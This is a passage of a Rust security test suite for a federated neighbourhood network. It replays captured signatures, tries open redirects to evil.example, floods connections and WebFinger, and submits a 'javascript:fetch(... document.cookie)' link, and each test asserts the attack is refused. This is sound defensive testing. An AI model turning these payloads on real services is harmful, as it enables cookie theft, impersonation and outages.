//! Attacks performed against running nodes over HTTP (issue 12). Each test does what an
//! attacker would and asserts that it fails and changes nothing. `docs/security.md` lists
//! what each test proves.

use anyhow::Result;
use buurtnet_domain::model::{Actor, Visibility};
use buurtnet_domain::store;
use buurtnet_federation::keys;
use buurtnet_federation::signatures::{Signer, digest_header};
use buurtnet_tests::harness::{Backend, TestNode, add_stand_in_follower, eventually, get_signed_text, post_signed, signer_of};
use buurtnet_tests::hostile::{Captured, Flood, HostilePeer};
use buurtnet_tests::pages::PageVisitor;
use serde_json::json;

/// A coordinator on node A, a resident on node B who knows of her, and an attacker's server
/// that follows the coordinator, so that A delivers to it.
struct Impersonation {
    a: TestNode,
    b: TestNode,
    coordinator: Actor,
    resident: Actor,
    attacker: HostilePeer,
}

async fn impersonation(backend: Backend) -> Result<Impersonation> {
    let a = TestNode::start(backend).await?;
    let b = TestNode::start(backend).await?;
    let initiative = a.add_initiative("zorgvrijstaat", false).await?;
    let coordinator = a.add_member("fatima", Some(&initiative)).await?;
    let resident = b.add_member("sanne", None).await?;
    b.resolve(&coordinator.ap_id).await?;
    let attacker = HostilePeer::start().await?;
    // These attacks replay draft-cavage signatures (tests/tests/rfc9421.rs has RFC 9421's):
    // the attacker's server is remembered as taking only those.
    let mut tx = a.store().begin().await?;
    store::peer_signatures::learned_outgoing(&mut tx, &buurtnet_federation::host_of(&url::Url::parse(&attacker.base_url())?), "cavage")
        .await?;
    tx.commit().await?;
    add_stand_in_follower(a.store(), &format!("{}/users/eve", attacker.base_url()), &coordinator).await?;
    Ok(Impersonation { a, b, coordinator, resident, attacker })
}

/// The attacker waits for one delivery signed by the coordinator.
async fn capture_a_delivery(s: &Impersonation) -> Result<Captured> {
    s.a.publish(&s.coordinator, "Wie helpt zaterdag met de soep?", Visibility::Public).await?;
    eventually("a delivery reaches the attacker", || async { Ok(s.attacker.received().into_iter().find(|r| r.method == "POST")) }).await
}

/// A direct message "from" the coordinator to the resident, which she never wrote.
fn forged_message(s: &Impersonation, n: u32) -> serde_json::Value {
    let note = format!("{}/forged/{n}", s.coordinator.ap_id);
    json!({
        "@context": "https://www.w3.org/ns/activitystreams",
        "id": format!("{note}/activity"), "type": "Create", "actor": s.coordinator.ap_id, "to": [s.resident.ap_id],
        "object": {"id": note, "type": "Note", "attributedTo": s.coordinator.ap_id, "to": [s.resident.ap_id],
                   "content": "Stuur je pincode even naar mij, dan regel ik de boodschappen.", "published": "2026-12-06T10:00:00Z"}
    })
}

/// Sends the captured headers (with `digests` as the Digest headers, in this order) and `body`
/// to `url`, as a replay would.
async fn replay(captured: &Captured, url: &str, digests: &[String], body: Vec<u8>) -> Result<u16> {
    let mut request = reqwest::Client::new().post(url).body(body);
    for name in ["host", "date", "signature", "content-type"] {
        if let Some(value) = captured.headers.get(name) {
            request = request.header(name, value.to_str()?);
        }
    }
    for digest in digests {
        request = request.header("digest", digest);
    }
    Ok(request.send().await?.status().as_u16())
}

async fn nothing_stored(node: &TestNode, s: &Impersonation, n: u32) -> Result<()> {
    let forged = format!("{}/forged/{n}", s.coordinator.ap_id);
    assert!(node.post(&forged).await?.is_none(), "the forged message {n} must not be stored");
    let mut conn = node.store().conn().await?;
    if let Some(resident) = store::actors::by_ap_id(&mut conn, &s.resident.ap_id).await? {
        assert!(store::notifications::for_recipient(&mut conn, resident.id, 50).await?.is_empty(), "nobody may be notified");
    }
    Ok(())
}

/// A captured signature replayed to another node with a forged body and a second `Digest`
/// (the inbox used to check the first while the signature covered the last).
async fn a_replayed_signature_with_a_second_digest_is_refused(backend: Backend) -> Result<()> {
    let s = impersonation(backend).await?;
    let captured = capture_a_delivery(&s).await?;
    let signed_digest = captured.headers.get("digest").expect("deliveries carry a Digest").to_str()?.to_string();
    let forged = serde_json::to_vec(&forged_message(&s, 1))?;
    let inbox = format!("{}/inbox", s.b.base_url());

    let status = replay(&captured, &inbox, &[digest_header(&forged), signed_digest.clone()], forged.clone()).await?;
    assert_eq!(status, 401, "a second Digest header must refuse the request");
    let status = replay(&captured, &inbox, &[signed_digest, digest_header(&forged)], forged).await?;
    assert_eq!(status, 401, "in either order");
    nothing_stored(&s.b, &s, 1).await?;
    Ok(())
}

/// The captured delivery replayed unchanged to another node: signed for the attacker's host,
/// not for this one.
async fn a_signature_made_for_another_server_is_refused(backend: Backend) -> Result<()> {
    let s = impersonation(backend).await?;
    let captured = capture_a_delivery(&s).await?;
    let digest = captured.headers.get("digest").expect("deliveries carry a Digest").to_str()?.to_string();
    let status = replay(&captured, &format!("{}/inbox", s.b.base_url()), &[digest], captured.body.to_vec()).await?;
    assert_eq!(status, 401, "a signature for another host must be refused");
    let post = serde_json::from_slice::<serde_json::Value>(&captured.body)?["object"]["id"].as_str().unwrap_or_default().to_string();
    assert!(s.b.post(&post).await?.is_none(), "nothing of the replay may be stored");
    Ok(())
}

/// An `Update` of the coordinator's profile naming the attacker's key, signed so that it
/// verifies (as a replayed signature did): the key must come only from her own server, so
/// the attacker's key still cannot speak for her.
async fn a_key_named_only_in_an_update_is_not_taken(backend: Backend) -> Result<()> {
    let s = impersonation(backend).await?;
    let attackers_keys = keys::generate();
    let mut profile: serde_json::Value =
        reqwest::Client::new().get(&s.coordinator.ap_id).header("accept", "application/activity+json").send().await?.json().await?;
    profile["publicKey"]["publicKeyPem"] = json!(attackers_keys.rsa_public_pem);
    profile["name"] = json!("Fatima (nieuw nummer)");
    let update = json!({"@context": "https://www.w3.org/ns/activitystreams", "id": format!("{}#updates/1", s.coordinator.ap_id),
                        "type": "Update", "actor": s.coordinator.ap_id, "to": ["https://www.w3.org/ns/activitystreams#Public"], "object": profile});
    let inbox = format!("{}/inbox", s.b.base_url());
    assert_eq!(post_signed(&inbox, &serde_json::to_vec(&update)?, Some(&signer_of(&s.coordinator)), None).await?, 202);

    let held = s.b.actor(&s.coordinator.ap_id).await?.expect("B knows the coordinator");
    assert_eq!(held.public_key_pem, s.coordinator.public_key_pem, "the key is still the one her own server publishes");
    assert_eq!(held.display_name, s.coordinator.display_name, "an Update naming new keys sends us to her own document");
    let as_attacker = Signer::from_pem(s.coordinator.public_key_id.clone(), &attackers_keys.rsa_private_pem)?;
    let forged = serde_json::to_vec(&forged_message(&s, 2))?;
    assert_eq!(post_signed(&inbox, &forged, Some(&as_attacker), None).await?, 401, "the attacker's key must not speak for her");
    nothing_stored(&s.b, &s, 2).await?;
    Ok(())
}

/// With authorized fetch, a GET signed for another server (as a captured fetch would be)
/// must not count as that reader's.
async fn a_signed_get_for_another_server_is_refused(backend: Backend) -> Result<()> {
    let s = impersonation(backend).await?;
    let mut b = s.b;
    b.stop().await;
    b.config.federation.authorized_fetch = true;
    b.restart().await?;
    let signer = signer_of(&s.coordinator);
    let path = format!("/users/{}", s.resident.username);
    let url = format!("{}{path}", b.base_url());
    let (status, _) = get_signed_text(&url, Some(&signer)).await?;
    assert_eq!(status, 200, "a GET signed for this node is a reader's");

    let mut headers = std::collections::BTreeMap::from([("host".to_string(), format!("localhost:{}", s.attacker.port))]);
    signer.sign("GET", &path, &mut headers, None)?;
    let mut request = reqwest::Client::new().get(&url).header("accept", "application/activity+json");
    for (name, value) in &headers {
        request = request.header(name.as_str(), value.as_str());
    }
    assert_eq!(request.send().await?.status().as_u16(), 401, "a GET signed for another host must be refused");
    Ok(())
}

/// Requests signed with a wrong key in the name of an actor on a third server: the node must
/// verify before it stores anything, and fetch that actor at most once a minute, so it
/// cannot be used to hammer the third server.
async fn a_failing_signature_neither_stores_nor_refetches_its_actor(backend: Backend) -> Result<()> {
    let node = TestNode::start(backend).await?;
    let member = node.add_member("sanne", None).await?;
    let post = node.publish(&member, "Soep op zaterdag", Visibility::Public).await?;
    let third = HostilePeer::start().await?;
    let actor_id = format!("{}/users/mallory", third.base_url());
    let published = keys::generate();
    let document = json!({"@context": ["https://www.w3.org/ns/activitystreams", "https://w3id.org/security/v1"],
        "id": actor_id, "type": "Person", "preferredUsername": "mallory", "inbox": format!("{actor_id}/inbox"),
        "publicKey": {"id": format!("{actor_id}#main-key"), "owner": actor_id, "publicKeyPem": published.rsa_public_pem}});
    third.serve("/users/mallory", "application/activity+json", serde_json::to_vec(&document)?);
    let wrong_key = Signer::from_pem(format!("{actor_id}#main-key"), &keys::generate().rsa_private_pem)?;

    let inbox = format!("{}/inbox", node.base_url());
    for n in 0..5 {
        let like = json!({"id": format!("{actor_id}/likes/{n}"), "type": "Like", "actor": actor_id, "object": post.ap_id});
        assert_eq!(post_signed(&inbox, &serde_json::to_vec(&like)?, Some(&wrong_key), None).await?, 401);
    }
    let fetches = third.received().iter().filter(|r| r.method == "GET" && r.uri.path() == "/users/mallory").count();
    assert!(fetches <= 1, "the third server was asked {fetches} times");
    assert!(node.actor(&actor_id).await?.is_none(), "an actor whose signature failed must not be stored");
    // The forgeries must not lock the real actor out: its own key still speaks for it, at once.
    let real = Signer::from_pem(format!("{actor_id}#main-key"), &published.rsa_private_pem)?;
    let like = json!({"id": format!("{actor_id}/likes/real"), "type": "Like", "actor": actor_id, "object": post.ap_id});
    assert_eq!(post_signed(&inbox, &serde_json::to_vec(&like)?, Some(&real), None).await?, 202, "the real actor is heard");
    assert!(node.actor(&actor_id).await?.is_some(), "and kept, now that its signature held");
    Ok(())
}

/// `terug` values that browsers would read as another site, after the language switch and
/// after logging in: the node must only ever send people to its own pages.
async fn going_back_never_leaves_the_site(backend: Backend) -> Result<()> {
    let node = TestNode::start(backend).await?;
    node.add_member("sanne", None).await?;
    let off_site = ["/%09/evil.example", "/%0a/evil.example", "/%5Cevil.example", "//evil.example", "/%2F/evil.example/../"];
    for terug in off_site {
        let mut visitor = PageVisitor::new(&node.base_url())?;
        let switched = visitor.get(&format!("/taal/en?terug={terug}")).await?;
        assert_local(switched.location.as_deref(), terug)?;
        let login = visitor.get(&format!("/inloggen?terug={terug}")).await?;
        let csrf = login.csrf()?;
        let back = login.body.split("name=\"terug\" value=\"").nth(1).and_then(|r| r.split('"').next()).unwrap_or("/").to_string();
        let answer = visitor
            .post("/inloggen", &[("username", "sanne"), ("password", "geheim-wachtwoord"), ("terug", &back), ("csrf", &csrf)])
            .await?;
        assert_local(answer.location.as_deref(), terug)?;
        // Also when the form itself is sent with the hostile value.
        let mut again = PageVisitor::new(&node.base_url())?;
        let csrf = again.get("/inloggen").await?.csrf()?;
        let raw = url_decode(terug);
        let answer =
            again.post("/inloggen", &[("username", "sanne"), ("password", "geheim-wachtwoord"), ("terug", &raw), ("csrf", &csrf)]).await?;
        assert_local(answer.location.as_deref(), terug)?;
    }
    Ok(())
}

/// A `Location` a browser would follow to this site only.
fn assert_local(location: Option<&str>, terug: &str) -> Result<()> {
    let location = location.unwrap_or_default();
    let followed = url::Url::parse("http://buurt.test/inloggen")?.join(location)?;
    assert_eq!(followed.host_str(), Some("buurt.test"), "terug={terug} sent the browser to {location:?}");
    Ok(())
}

fn url_decode(text: &str) -> String {
    let bytes = text.as_bytes();
    let mut out = Vec::new();
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i] == b'%'
            && i + 2 < bytes.len()
            && let Ok(b) = u8::from_str_radix(&text[i + 1..i + 3], 16)
        {
            out.push(b);
            i += 3;
        } else {
            out.push(bytes[i]);
            i += 1;
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// A coalition need is for the nodes of the coalition's members, not for every account on
/// such a node's server: on a mixed server, any user could otherwise read it.
async fn coalition_posts_are_for_member_nodes_not_their_other_accounts(backend: Backend) -> Result<()> {
    let (a, b) = (TestNode::start(backend).await?, TestNode::start(backend).await?);
    let zorg = a.add_initiative("zorg", false).await?;
    let fatima = a.add_member("fatima", Some(&zorg)).await?;
    let paleis = b.add_initiative("paleis", false).await?;
    let kees = b.add_member("kees", Some(&paleis)).await?;
    buurtnet_tests::harness::form_coalition((&a, &zorg, &fatima), &[(&b, &paleis, &kees)]).await?;
    let need = a.publish_as(&fatima, &zorg, "Wie kan mevrouw De Vries naar de huisarts brengen?", Visibility::Coalition, vec![]).await?;
    let node_b = signer_of(&b.node.as_ref().expect("b runs").state().instance_actor);
    let someone_on_b = signer_of(&b.add_member("eve", None).await?);

    assert_eq!(get_signed_text(&need.ap_id, Some(&node_b)).await?.0, 200, "the member's node reads it");
    assert_eq!(get_signed_text(&need.ap_id, Some(&someone_on_b)).await?.0, 404, "another account on that server does not");
    let content = format!("{}/coalitions/delfshaven/content", a.base_url());
    assert_eq!(get_signed_text(&content, Some(&node_b)).await?.0, 200, "the member's node reads the coalition's content");
    assert_eq!(get_signed_text(&content, Some(&someone_on_b)).await?.0, 403, "another account on that server does not");
    Ok(())
}

/// Someone guesses a coordinator's password from one address, by her name and by her
/// e-mail address: they are slowed down, one bucket for the account, while she, from her
/// own address, still logs in. Behind the node's proxy the limits see real clients.
async fn guessing_a_password_slows_the_guesser_and_never_locks_out_the_owner(backend: Backend) -> Result<()> {
    let node = TestNode::start_with(backend, |config| config.web.trusted_proxies = vec!["127.0.0.1".parse().unwrap()]).await?;
    let state = node.node.as_ref().expect("runs").state();
    let draft = buurtnet_domain::ops::actors::MemberDraft {
        username: "fatima".into(),
        display_name: "Fatima".into(),
        password: "geheim-wachtwoord".into(),
        email: Some("fatima@buurt.example".into()),
        is_admin: true,
        initiative: None,
    };
    buurtnet_domain::ops::actors::add_member(&state.store, &state.urls, &draft, &keys::generate()).await?;
    let base = node.base_url();
    let client = reqwest::Client::new();
    let app: serde_json::Value = client
        .post(format!("{base}/api/v1/apps"))
        .json(&json!({"client_name": "app", "redirect_uris": "urn:ietf:wg:oauth:2.0:oob", "scopes": "read"}))
        .send()
        .await?
        .json()
        .await?;
    let login = |from: &'static str, username: &'static str, password: &'static str| {
        let (client, base, app) = (client.clone(), base.clone(), app.clone());
        async move {
            let form = [
                ("grant_type", "password"),
                ("client_id", app["client_id"].as_str().unwrap_or_default()),
                ("client_secret", app["client_secret"].as_str().unwrap_or_default()),
                ("username", username),
                ("password", password),
            ];
            let response = client.post(format!("{base}/oauth/token")).header("x-forwarded-for", from).form(&form).send().await?;
            anyhow::Ok(response.status().as_u16())
        }
    };
    let guesser = "203.0.113.9";
    let mut answers = Vec::new();
    for n in 0..12 {
        let name = if n % 2 == 0 { "fatima" } else { "fatima@buurt.example" };
        answers.push(login(guesser, name, "raden").await?);
    }
    assert_eq!(answers.iter().filter(|s| **s == 400).count(), 5, "five free tries for name and e-mail together: {answers:?}");
    assert!(answers[5..].iter().all(|s| *s == 429), "then the guesser waits: {answers:?}");
    assert_eq!(login(guesser, "fatima", "geheim-wachtwoord").await?, 429, "even with the right password, for now");
    assert_eq!(login("198.51.100.7", "fatima", "geheim-wachtwoord").await?, 200, "the owner, elsewhere, logs in");
    assert_eq!(login("198.51.100.7", "fatima@buurt.example", "geheim-wachtwoord").await?, 200, "by her e-mail address too");
    Ok(())
}

/// Two notes of 480 KiB of nested `<div>`s at once, to a member (sanitising used to grow with
/// the square of the nesting: 41 s of CPU each). Each must be taken in within five seconds
/// (a debug build), and the node must answer `/health` within a second all the while.
async fn hostile_html_neither_stalls_the_node_nor_takes_long(backend: Backend) -> Result<()> {
    let node = TestNode::start(backend).await?;
    let peer = TestNode::start(backend).await?;
    let member = node.add_member("sanne", None).await?;
    let sender = peer.add_member("afzender", None).await?;
    let depth = 480 * 1024 / 11;
    let content = format!("{}Hallo{}", "<div>".repeat(depth), "</div>".repeat(depth));
    let inbox = format!("{}/users/sanne/inbox", node.base_url());
    let mut notes = Vec::new();
    for n in 1..=2 {
        let note = format!("{}/diep/{n}", sender.ap_id);
        let create = json!({"id": format!("{note}/create"), "type": "Create", "actor": sender.ap_id, "to": [member.ap_id],
            "object": {"id": note, "type": "Note", "attributedTo": sender.ap_id, "to": [member.ap_id], "content": content}});
        let (inbox, signer, body) = (inbox.clone(), signer_of(&sender), serde_json::to_vec(&create)?);
        notes.push(tokio::spawn(async move {
            let started = std::time::Instant::now();
            let status = post_signed(&inbox, &body, Some(&signer), None).await?;
            anyhow::Ok((status, started.elapsed()))
        }));
    }
    let health = format!("{}/health", node.base_url());
    let mut slowest = std::time::Duration::ZERO;
    while notes.iter().any(|n| !n.is_finished()) {
        let started = std::time::Instant::now();
        let status = reqwest::Client::new().get(&health).timeout(std::time::Duration::from_secs(5)).send().await?.status();
        assert_eq!(status, 200);
        slowest = slowest.max(started.elapsed());
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    for note in notes {
        let (status, took) = note.await??;
        assert_eq!(status, 202);
        assert!(took < std::time::Duration::from_secs(5), "a hostile note took {took:?}");
    }
    assert!(slowest < std::time::Duration::from_secs(1), "/health took {slowest:?} while the notes were read");
    let kept = node.post(&format!("{}/diep/1", sender.ap_id)).await?.expect("the note is kept, as its text");
    assert!(kept.content.contains("Hallo") && !kept.content.contains("<div>"), "{}", &kept.content[..kept.content.len().min(200)]);
    Ok(())
}

/// Clients that open connections and never finish their headers, or their body: the node
/// closes them after its time limits, serves at most its cap at once, and keeps answering.
async fn slow_clients_are_cut_off_and_the_node_keeps_answering(backend: Backend) -> Result<()> {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let node = TestNode::start_with(backend, |config| {
        config.server.header_timeout_secs = 2;
        config.server.body_timeout_secs = 2;
        config.server.max_connections = 100;
    })
    .await?;
    let address = format!("127.0.0.1:{}", node.port);
    let mut stalled = Vec::new();
    for _ in 0..150 {
        let mut connection = tokio::net::TcpStream::connect(&address).await?;
        connection.write_all(b"GET /health HTTP/1.1\r\nHost: localhost\r\n").await?;
        stalled.push(connection);
    }
    let mut body_stalled = tokio::net::TcpStream::connect(&address).await?;
    // (An endpoint that reads the whole body before it answers.)
    let headers = "POST /api/v1/apps HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n";
    body_stalled.write_all(format!("{headers}{{\"client_name\":").as_bytes()).await?;

    let started = std::time::Instant::now();
    let health =
        reqwest::Client::new().get(format!("{}/health", node.base_url())).timeout(std::time::Duration::from_secs(10)).send().await?;
    assert_eq!(health.status(), 200);
    assert!(started.elapsed() < std::time::Duration::from_secs(6), "/health took {:?} behind 150 stalled clients", started.elapsed());

    let closed_within = |mut connection: tokio::net::TcpStream| async move {
        let mut buffer = [0u8; 1024];
        let started = std::time::Instant::now();
        // Whatever the node says last (perhaps a 408), it must close the connection.
        loop {
            match tokio::time::timeout(std::time::Duration::from_secs(10), connection.read(&mut buffer)).await {
                Ok(Ok(0)) | Ok(Err(_)) => return Ok(started.elapsed()),
                Ok(Ok(_)) => continue,
                Err(_) => anyhow::bail!("the connection is still open after 10 s"),
            }
        }
    };
    for connection in stalled.drain(..).take(5) {
        let took = closed_within(connection).await?;
        assert!(took < std::time::Duration::from_secs(5), "a client that never finished its headers was kept {took:?}");
    }
    let took = closed_within(body_stalled).await?;
    assert!(took < std::time::Duration::from_secs(6), "a client that never finished its body was kept {took:?}");
    Ok(())
}

/// An anonymous visitor asks to follow from an address whose server answers WebFinger with
/// 512 MiB (one such request took a node from 33 MB to 6.4 GB), or announces 10 GB: the node
/// stops reading at its limit (64 KiB), answers at once, and the form is limited per address.
async fn a_huge_webfinger_answer_is_never_read_into_memory(backend: Backend) -> Result<()> {
    let node = TestNode::start(backend).await?;
    node.add_initiative("zorg", false).await?;
    let peer = HostilePeer::start().await?;
    let handle = format!("@eve@localhost:{}", peer.port);
    let follow = async || {
        let mut visitor = PageVisitor::new(&node.base_url())?;
        let started = std::time::Instant::now();
        let answer = visitor.submit("/initiatives/zorg", "/volg-op-afstand", &[("account", "zorg"), ("handle", &handle)]).await?;
        anyhow::Ok((answer.status.as_u16(), started.elapsed()))
    };
    peer.flood("/.well-known/webfinger", Flood { bytes: 512 << 20, announced: None });
    let before = reset_peak_memory()?;
    let (status, took) = follow().await?;
    let grew = peak_memory()?.saturating_sub(before);
    assert_eq!(status, 422, "no subscribe address in that answer");
    assert!(took < std::time::Duration::from_secs(5), "took {took:?}");
    // (Other tests run in this process at the same time; the old code grew by 524 MiB.)
    assert!(grew < 200 << 20, "the node grew by {} MiB reading a stranger's answer", grew >> 20);

    peer.flood("/.well-known/webfinger", Flood { bytes: 1 << 20, announced: Some(10 << 30) });
    let (status, took) = follow().await?;
    assert_eq!(status, 422);
    assert!(took < std::time::Duration::from_secs(5), "a 10 GB announcement is refused at once; took {took:?}");

    let mut statuses = Vec::new();
    for _ in 0..12 {
        statuses.push(follow().await?.0);
    }
    assert_eq!(statuses.last(), Some(&429), "anonymous follow requests are limited per address: {statuses:?}");
    Ok(())
}

/// Resets this test process's peak resident memory (the nodes run in it) and returns the
/// memory in use now, in bytes.
fn reset_peak_memory() -> Result<u64> {
    std::fs::write("/proc/self/clear_refs", "5")?;
    memory_field("VmRSS:")
}

/// The peak resident memory since the last reset, in bytes.
fn peak_memory() -> Result<u64> {
    memory_field("VmHWM:")
}

fn memory_field(name: &str) -> Result<u64> {
    let status = std::fs::read_to_string("/proc/self/status")?;
    let line = status.lines().find(|l| l.starts_with(name)).ok_or_else(|| anyhow::anyhow!("no {name}"))?;
    let kib: u64 = line.split_whitespace().nth(1).unwrap_or("0").parse()?;
    Ok(kib * 1024)
}

/// Pictures carry where they were taken and with what phone, in EXIF, XMP, text chunks or
/// comments. Whatever the format, what the node serves holds the pixels only.
async fn no_picture_keeps_its_hidden_metadata(backend: Backend) -> Result<()> {
    let node = TestNode::start(backend).await?;
    node.add_member("fatima", None).await?;
    let token = app_token(&node, "fatima").await?;
    const SECRET: &[u8] = b"GPS-51.9225-4.4792-GAFFELSTRAAT-iPhone15";
    for (name, file) in [
        ("foto.jpg", jpeg_with(SECRET)?),
        ("foto.png", png_with(SECRET)?),
        ("foto.webp", webp_with(SECRET)?),
        ("foto.gif", gif_with(SECRET)?),
    ] {
        assert!(file.windows(SECRET.len()).any(|w| w == SECRET), "{name}: the test file carries the secret");
        let form = reqwest::multipart::Form::new()
            .part("file", reqwest::multipart::Part::bytes(file).file_name(name))
            .text("description", "De moestuin");
        let media: serde_json::Value = reqwest::Client::new()
            .post(format!("{}/api/v2/media", node.base_url()))
            .bearer_auth(&token)
            .multipart(form)
            .send()
            .await?
            .error_for_status()?
            .json()
            .await?;
        let served = reqwest::get(media["url"].as_str().unwrap_or_default()).await?.error_for_status()?.bytes().await?;
        assert!(!served.windows(SECRET.len()).any(|w| w == SECRET), "{name}: the served file still holds the secret");
        assert!(image::load_from_memory(&served).is_ok(), "{name}: still a picture");
    }
    // 49 megapixels in a few kilobytes: refused before it is decoded.
    let huge = encoded(image::DynamicImage::ImageLuma8(image::GrayImage::new(7000, 7000)), image::ImageFormat::Png)?;
    let form = reqwest::multipart::Form::new().part("file", reqwest::multipart::Part::bytes(huge).file_name("groot.png"));
    let refused =
        reqwest::Client::new().post(format!("{}/api/v2/media", node.base_url())).bearer_auth(&token).multipart(form).send().await?;
    assert_eq!(refused.status(), 422, "too many pixels");
    Ok(())
}

/// An access token of `username` (password grant), for the Mastodon API.
async fn app_token(node: &TestNode, username: &str) -> Result<String> {
    let client = reqwest::Client::new();
    let app: serde_json::Value = client
        .post(format!("{}/api/v1/apps", node.base_url()))
        .json(&json!({"client_name": "test", "redirect_uris": "urn:ietf:wg:oauth:2.0:oob", "scopes": "read write"}))
        .send()
        .await?
        .json()
        .await?;
    let token: serde_json::Value = client
        .post(format!("{}/oauth/token", node.base_url()))
        .json(&json!({"grant_type": "password", "client_id": app["client_id"], "client_secret": app["client_secret"],
                      "username": username, "password": "geheim-wachtwoord", "scope": "read write"}))
        .send()
        .await?
        .json()
        .await?;
    Ok(token["access_token"].as_str().unwrap_or_default().to_string())
}

fn encoded(image: image::DynamicImage, format: image::ImageFormat) -> Result<Vec<u8>> {
    let mut out = Vec::new();
    image.write_to(&mut std::io::Cursor::new(&mut out), format)?;
    Ok(out)
}

fn picture() -> image::DynamicImage {
    image::DynamicImage::ImageRgb8(image::RgbImage::from_fn(48, 32, |x, y| image::Rgb([x as u8 * 5, y as u8 * 7, 90])))
}

/// A JPEG with an EXIF segment (APP1) right after its start.
fn jpeg_with(secret: &[u8]) -> Result<Vec<u8>> {
    let plain = encoded(picture(), image::ImageFormat::Jpeg)?;
    let exif = [b"Exif\0\0".as_slice(), secret].concat();
    let length = u16::try_from(exif.len() + 2)?.to_be_bytes();
    Ok([&plain[..2], &[0xFF, 0xE1, length[0], length[1]], &exif[..], &plain[2..]].concat())
}

/// A PNG with a tEXt chunk just before its end.
fn png_with(secret: &[u8]) -> Result<Vec<u8>> {
    png_of(picture(), secret)
}

/// `image` as a PNG with a tEXt chunk holding `secret` just before its end.
fn png_of(image: image::DynamicImage, secret: &[u8]) -> Result<Vec<u8>> {
    let plain = encoded(image, image::ImageFormat::Png)?;
    let data = [b"Comment\0".as_slice(), secret].concat();
    let kind_and_data = [b"tEXt".as_slice(), &data].concat();
    let chunk = [&(data.len() as u32).to_be_bytes()[..], &kind_and_data, &crc32(&kind_and_data).to_be_bytes()].concat();
    let end = plain.len() - 12; // IEND
    Ok([&plain[..end], &chunk[..], &plain[end..]].concat())
}

/// A WebP (extended format) with an EXIF chunk.
fn webp_with(secret: &[u8]) -> Result<Vec<u8>> {
    let plain = encoded(picture(), image::ImageFormat::WebP)?;
    let image_chunk = &plain[12..]; // after "RIFF", its size and "WEBP"
    let (w, h) = (47u32.to_le_bytes(), 31u32.to_le_bytes());
    let vp8x = [b"VP8X".as_slice(), &10u32.to_le_bytes(), &[0x08, 0, 0, 0], &w[..3], &h[..3]].concat();
    let mut exif = [b"EXIF".as_slice(), &(secret.len() as u32).to_le_bytes(), secret].concat();
    if secret.len() % 2 == 1 {
        exif.push(0);
    }
    let body = [b"WEBP".as_slice(), &vp8x, image_chunk, &exif].concat();
    Ok([b"RIFF".as_slice(), &(body.len() as u32).to_le_bytes(), &body].concat())
}

/// A GIF with a comment extension before its trailer.
fn gif_with(secret: &[u8]) -> Result<Vec<u8>> {
    let plain = encoded(picture(), image::ImageFormat::Gif)?;
    let comment = [&[0x21, 0xFE, secret.len() as u8][..], secret, &[0x00]].concat();
    let end = plain.len() - 1; // the trailer, 0x3B
    Ok([&plain[..end], &comment[..], &plain[end..]].concat())
}

fn crc32(bytes: &[u8]) -> u32 {
    let mut crc = 0xFFFF_FFFFu32;
    for byte in bytes {
        crc ^= u32::from(*byte);
        for _ in 0..8 {
            crc = if crc & 1 == 1 { (crc >> 1) ^ 0xEDB8_8320 } else { crc >> 1 };
        }
    }
    !crc
}

/// An anonymous app subscribes one WebSocket to a thousand hashtags, and opens socket after
/// socket (three such sockets used 1.6 of 2 cores): a connection holds at most 16 streams, an
/// address at most 8 connections, and what was accepted still works.
async fn streaming_is_capped_per_connection_and_per_address(backend: Backend) -> Result<()> {
    use futures::{SinkExt, StreamExt};
    use tokio_tungstenite::tungstenite::Message;
    let node = TestNode::start(backend).await?;
    let author = node.add_member("fatima", None).await?;
    let url = format!("ws://localhost:{}/api/v1/streaming", node.port);
    let (mut socket, _) = tokio_tungstenite::connect_async(&url).await?;
    for n in 0..1000 {
        socket.send(Message::text(json!({"type": "subscribe", "stream": "hashtag", "tag": format!("soep{n}")}).to_string())).await?;
    }
    socket.send(Message::text(json!({"type": "subscribe", "stream": "hashtag", "tag": "x".repeat(101)}).to_string())).await?;
    let mut refusals = 0;
    while refusals < 985 {
        let Ok(Some(message)) = tokio::time::timeout(std::time::Duration::from_secs(10), socket.next()).await else { break };
        if message?.to_text()?.contains("\"error\"") {
            refusals += 1;
        }
    }
    assert_eq!(refusals, 985, "984 streams past the sixteenth and one hashtag too long are refused");

    let mut others = Vec::new();
    for _ in 0..7 {
        others.push(tokio_tungstenite::connect_async(&url).await?.0);
    }
    match tokio_tungstenite::connect_async(&url).await {
        Err(tokio_tungstenite::tungstenite::Error::Http(response)) => assert_eq!(response.status(), 429),
        other => anyhow::bail!("a ninth connection from one address must be refused, got {:?}", other.map(|_| "a socket")),
    }
    drop(others.pop());
    tokio::time::sleep(std::time::Duration::from_millis(200)).await;
    others.push(tokio_tungstenite::connect_async(&url).await.map_err(|e| anyhow::anyhow!("a closed one frees its place: {e}"))?.0);

    node.publish(&author, "Wie komt er #soep3 eten?", Visibility::Public).await?;
    let update = tokio::time::timeout(std::time::Duration::from_secs(10), async {
        while let Some(message) = socket.next().await {
            let text = message?.into_text()?.to_string();
            if text.contains("\"update\"") {
                return anyhow::Ok(text);
            }
        }
        anyhow::bail!("the socket closed")
    })
    .await??;
    assert!(update.contains("soep3"), "an accepted stream still delivers: {update}");
    Ok(())
}

/// A link that runs script when a resident clicks it: typed into the event form, or sent by
/// a peer as an event's online link, a post's page and a profile's page. None becomes a link.
async fn links_are_web_addresses_only(backend: Backend) -> Result<()> {
    let node = TestNode::start(backend).await?;
    let peer = TestNode::start(backend).await?;
    let zorg = node.add_initiative("zorg", false).await?;
    let fatima = node.add_member("fatima", Some(&zorg)).await?;
    let mut visitor = PageVisitor::new(&node.base_url())?;
    visitor.log_in("fatima", "geheim-wachtwoord").await?;
    let next_week = (chrono::Utc::now() + chrono::Duration::days(7)).format("%Y-%m-%d").to_string();
    let fields = [
        ("author", "fatima"),
        ("title", "Soep online"),
        ("date", next_week.as_str()),
        ("start", "17:30"),
        ("online_url", "javascript:fetch('//evil.example/?'+document.cookie)"),
        ("join_mode", "free"),
        ("visibility", "public"),
    ];
    let refused = visitor.submit("/nieuw/activiteit", "/nieuw/activiteit", &fields).await?;
    assert_eq!(refused.status, 422, "a javascript: link is refused");
    assert!(refused.body.contains("id=\"online_url-error\""), "and explained beside the field");

    let sender = peer.add_member("afzender", None).await?;
    node.follow_and_wait(&fatima, &sender.ap_id).await?;
    let event_id = format!("{}/events/1", sender.ap_id);
    let starts = (chrono::Utc::now() + chrono::Duration::days(7)).to_rfc3339();
